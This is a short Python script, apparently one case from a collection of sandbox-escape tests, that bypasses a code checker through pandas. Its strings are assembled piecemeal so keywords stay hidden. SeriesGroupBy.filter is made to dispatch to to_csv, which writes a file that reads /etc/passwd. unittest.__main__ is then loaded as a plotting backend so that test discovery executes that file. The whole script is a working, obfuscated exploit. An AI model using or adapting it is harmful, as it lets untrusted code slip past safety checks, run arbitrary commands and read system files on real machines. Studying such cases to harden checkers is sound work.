# source: pandas 1.5.3 SeriesGroupBy.filter (str func -> getattr(group, func)(*args, **kwargs)); Series.to_csv; plotting/_core.py hist_series backend (10th positional) -> importlib.import_module; CPython 3.11 Lib/unittest/__main__.py (main(module=None) -> test discovery in the cwd, /tmp here)
# family: pandas string dispatch not on the check's list (SeriesGroupBy.filter): writer with a run-time path and a plotting backend by position; the imported module runs code from a file the script wrote
# goal: writes test_strategy_helper.py (a line of Python) into the cwd, imports unittest.__main__ as a "plotting backend", whose discovery imports and runs that file: open('/etc/passwd').read() printed
import pandas as pd

payload = "".join(["print(op", "en(", chr(39), chr(47), "etc", chr(47), "passwd", chr(39), ").read())"])
path = "".join(["test", "_strategy_helper", ".", "py"])
writer = "".join(["to", "_", "csv"])
df = pd.DataFrame({"k": [1], "v": [payload]})
df.groupby("k").v.filter(writer, True, path, header=False, index=False)
print("wrote", path)
name = "".join(["hi", "st"])
mod = "".join(["unit", "test", ".", chr(95) * 2, "main", chr(95) * 2])
try:
    # group.hist(by, ax, grid, xlabelsize, xrot, ylabelsize, yrot, figsize, bins, backend)
    df.groupby("k").v.filter(name, True, None, None, True, None, None, None, None, None, 10, mod)
except BaseException as e:
    print("after:", type(e).__name__, e)
